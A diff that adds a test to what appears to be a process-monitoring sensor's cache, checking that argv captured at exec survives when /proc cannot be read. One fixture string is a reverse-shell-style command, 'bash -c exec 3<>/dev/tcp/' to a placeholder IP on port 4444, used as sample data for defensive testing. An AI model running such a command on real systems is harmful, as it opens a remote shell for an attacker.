@@ -135,3 +135,11 @@ t.test("the process cache is bounded and forgets after its ttl", async (t) => {
   loop.recordExec(exec(11, 10, T0, "/b"), { exe: "/b", cmdline: "" });
   t.same(loop.ancestry(10, T0), [{ pid: 11, exe: "/b" }]);
 });
+
+t.test("a process gone before /proc was read keeps the argv the sensor read at exec", async (t) => {
+  const cache = new ProcessCache();
+  const info = cache.recordExec({ ...exec(800, 1, T0, "/usr/bin/bash"), args: "bash -c exec 3<>/dev/tcp/192.0.2.9/4444" }, { exe: null, cmdline: null });
+  t.same([info.exe, info.cmdline, info.complete], ["/usr/bin/bash", "bash -c exec 3<>/dev/tcp/192.0.2.9/4444", false]);
+  const fromProc = cache.recordExec({ ...exec(801, 1, T0, "/usr/bin/bash"), args: "bash -c cut" }, { exe: "/usr/bin/bash", cmdline: "bash -c the whole command line" });
+  t.equal(fromProc.cmdline, "bash -c the whole command line", "/proc's full command line wins when it was read");
+});
